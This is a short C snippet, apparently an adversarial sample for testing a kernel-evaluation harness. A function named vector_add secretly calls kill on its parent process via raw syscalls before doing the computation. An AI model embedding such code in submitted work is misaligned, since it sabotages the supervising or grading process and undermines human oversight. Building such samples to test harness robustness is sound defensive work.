/* kill_parent: kind 4: sends SIGKILL to its parent. */
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  SYS2(NR_kill, SYS0(NR_getppid), 9);
  adv_compute(a, b, out, alpha, n);
}
